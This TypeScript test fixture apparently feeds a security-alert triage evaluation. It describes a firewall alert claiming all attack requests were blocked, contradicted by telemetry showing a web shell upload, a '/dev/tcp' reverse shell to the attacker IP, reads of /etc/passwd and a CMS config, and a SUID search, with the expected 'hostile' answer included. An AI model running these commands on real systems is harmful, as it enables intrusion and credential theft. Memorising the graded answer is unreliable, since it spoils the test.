// The web firewall reports three blocked requests; another one of the same caller got through to the web server.
import { alert, connected, hostile, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const threeRequestsBlocked: TellSituation = (setting) => {
  const web = setting.machine('srv-web-01')
  const at = setting.ago({ minutes: 38 })
  const ip = '103.152.118.47'
  const shell = setting.file('thumb_cache.php')
  const { hex } = setting.seeded
  const www = { AccountName: 'www-data', InitiatingProcessAccountName: 'www-data' }
  const event = (second: number, path: string, query: string, description: string, rule: string) => ({
    Action: 'block',
    ClientASN: 138_415,
    ClientASNDescription: 'YANCY-AS-AP YANCY LIMITED',
    ClientCountry: 'hk',
    ClientIP: ip,
    ClientIPClass: 'noRecord',
    ClientRefererHost: '',
    ClientRefererPath: '',
    ClientRefererScheme: '',
    ClientRequestHost: 'www.havskoginstruments.com',
    ClientRequestMethod: 'POST',
    ClientRequestPath: path,
    ClientRequestProtocol: 'HTTP/2',
    ClientRequestQuery: query,
    ClientRequestScheme: 'https',
    ClientRequestUserAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    ContentScanObjResults: [],
    Datetime: setting.iso(at + second * 1000),
    Description: description,
    EdgeColoCode: 'HKG',
    EdgeResponseStatus: 403,
    Kind: 'firewall',
    LeakedCredentialCheckResult: 'none',
    MatchIndex: 0,
    Metadata: { group: '5d6d0b1c', kind: 'managed', ruleset_version: '81', type: 'customer' },
    OriginResponseStatus: 0,
    OriginatorRayID: '00',
    RayID: hex(`ray ${second}`, 16),
    Ref: '',
    RuleID: rule,
    Source: 'firewallManaged',
    ZoneName: 'havskoginstruments.com',
  })
  return {
    id: 'three-requests-blocked',
    group: 'contradiction',
    title: 'Attack on the web site, all requests blocked',
    alerts: [
      alert(setting, at + 120_000, 'cloudflare', 'Security Events Alert: spike in managed rule matches', {
        name: 'WAF spike - havskoginstruments.com',
        text: 'Cloudflare has detected a spike in firewall events for the zone havskoginstruments.com. All matching requests were mitigated.',
        alert_type: 'clickhouse_alert_fw_ent_anomaly',
        alert_correlation_id: hex('cf correlation', 32),
        policy_id: hex('cf policy', 32),
        policy_name: 'SOC webhook - WAF',
        account_id: hex('cf account', 32),
        ts: setting.seconds(at + 118_000),
        data: {
          zones: ['havskoginstruments.com'],
          services: ['firewallManaged'],
          severity: 'LOW',
          mitigated: 3,
          unmitigated: null,
          z_score: 4.1,
          dashboard_link: `https://dash.cloudflare.com/?to=/:account/havskoginstruments.com/security/events&time-window=1440`,
          origin: { tunnel: 'cfd-gbg-01', connector_version: '2026.10.2', service: `https://${web.dnsName}:443` },
          sampled_events: [
            event(
              0,
              '/cms/index.php',
              '?option=media&task=file.upload',
              'File upload - PHP payload in multipart body',
              '100173ef',
            ),
            event(
              4,
              '/cms/index.php',
              '?option=media&task=file.upload&format=json',
              'PHP, vBulletin, jQuery File Upload - Code Injection',
              '100173b1',
            ),
            event(9, '/cms/api/index.php/v1/media/files', '', 'Anomaly:Body - Large 2', '100139d2'),
          ],
        },
      }),
    ],
    facts: {
      intelligence: [
        setting.risk(
          'ip',
          ip,
          82,
          [
            [
              'Recent Web Application Attack Source',
              3,
              'Uploads web shells to content systems, seen at nine companies this week.',
            ],
            ['Recent Multicategory Blocklist', 2, 'On three block lists.'],
          ],
          { location: { country: 'Hong Kong', city: 'Hong Kong', asn: 'AS138415', organization: 'Yancy Limited' } },
        ),
      ],
      telemetry: [
        wrote(web, at + 31_000, 'thumb_cache.php', '/var/www/cms/media/cache', shell, {
          FileSize: 1312,
          InitiatingProcessFileName: 'php-fpm8.3',
          InitiatingProcessAccountName: 'www-data',
        }),
        ran(web, at + 44_000, 'sh', 'sh -c id; uname -a; cat /etc/passwd', {
          ...www,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'php-fpm8.3',
          InitiatingProcessCommandLine: 'php-fpm: pool cms',
        }),
        ran(web, at + 71_000, 'bash', `bash -c bash -i >& /dev/tcp/${ip}/8443 0>&1`, {
          ...www,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'php-fpm8.3',
          InitiatingProcessCommandLine: 'php-fpm: pool cms',
        }),
        connected(web, at + 72_000, ip, {
          RemotePort: 8443,
          InitiatingProcessFileName: 'bash',
          InitiatingProcessCommandLine: 'bash -i',
          InitiatingProcessAccountName: 'www-data',
        }),
        ran(web, at + 160_000, 'find', 'find / -perm -4000 -type f', {
          ...www,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'bash',
          InitiatingProcessCommandLine: 'bash -i',
        }),
        ran(web, at + 205_000, 'cat', 'cat /var/www/cms/configuration.php', {
          ...www,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'bash',
          InitiatingProcessCommandLine: 'bash -i',
        }),
      ],
    },
    expected: { ...hostile(web.host), severities: ['high', 'critical'] },
    because:
      'Blocked is true of the three requests only. Seconds later the web process of the origin wrote a script into an upload folder, ran commands and opened a shell to the very address that was blocked, which intelligence knows for web shells.',
  }
}
